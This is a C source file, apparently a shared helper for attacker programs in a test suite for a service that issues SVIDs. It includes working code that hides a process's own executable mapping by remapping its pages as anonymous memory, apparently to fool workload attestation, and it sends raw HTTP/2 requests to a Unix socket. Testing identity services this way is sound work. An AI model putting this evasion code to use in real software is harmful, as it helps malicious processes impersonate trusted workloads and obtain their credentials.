/* What programs of the attacker in C share: they leave no trace of their own file, and ask for an SVID and say what came back. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int answered(const unsigned char *bytes, size_t length) {
  for (size_t at = 0; at + 9 <= length;) {
    size_t payload = bytes[at] << 16 | bytes[at + 1] << 8 | bytes[at + 2];
    if (at + 9 + payload > length) return 0;
    int kind = bytes[at + 3], flags = bytes[at + 4], stream = bytes[at + 8];
    if (stream == 1 && (kind == 3 || (kind == 0 && payload > 5) || (kind == 1 && (flags & 1)))) return 1;
    at += 9 + payload;
  }
  return 0;
}

/* Puts copies of its pages, which are of no file, where a file with this end of its path was mapped. */
static void leave_no_mapping(const char *file) {
  char line[1024], mode[8];
  unsigned long from[16], to[16];
  int protection[16], count = 0;
  FILE *maps = fopen("/proc/self/maps", "r");
  while (fgets(line, sizeof line, maps) && count < 16) {
    if (!strstr(line, file) || sscanf(line, "%lx-%lx %7s", &from[count], &to[count], mode) != 3 || mode[0] != 'r') continue;
    protection[count++] = PROT_READ | (mode[1] == 'w' ? PROT_WRITE : 0) | (mode[2] == 'x' ? PROT_EXEC : 0);
  }
  fclose(maps);
  for (int at = 0; at < count; at++) {
    size_t length = to[at] - from[at];
    void *copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(copy, (void *)from[at], length);
    mprotect(copy, length, protection[at]);
    mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)from[at]);
  }
}

static void ask(void) {
  static unsigned char bytes[65536];
  static char line[140000];
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  FILE *file = fopen("request", "rb");
  size_t length = file ? fread(bytes, 1, sizeof bytes, file) : 0, used;
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  strncpy(address.sun_path, getenv("ATTACK_SOCKET"), sizeof address.sun_path - 1);
  if (length == 0 || connect(fd, (struct sockaddr *)&address, sizeof address) != 0 || write(fd, bytes, length) < 0) {
    puts("{\"nothing\": \"no connection\"}");
    return;
  }
  length = 0;
  while (length < sizeof bytes && !answered(bytes, length)) {
    ssize_t got = read(fd, bytes + length, sizeof bytes - length);
    if (got <= 0) break;
    length += got;
  }
  used = sprintf(line, "{\"stream\": 1, \"hex\": \"");
  for (size_t at = 0; at < length; at++) used += sprintf(line + used, "%02x", bytes[at]);
  printf("%s\"}\n", line);
  fflush(stdout);
}
